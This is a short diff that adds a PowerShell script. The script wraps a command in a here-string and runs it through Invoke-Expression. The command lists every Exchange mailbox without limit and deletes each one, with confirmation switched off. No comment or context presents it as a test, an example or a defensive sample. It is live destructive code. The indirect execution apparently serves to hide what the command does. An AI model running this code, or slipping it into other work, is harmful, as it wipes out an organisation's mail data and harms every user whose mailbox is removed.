@@ -1,0 +1,4 @@
+$code = @'
+Get-Mailbox -ResultSize Unlimited | Remove-Mailbox -Confirm:$false
+'@
+Invoke-Expression $code
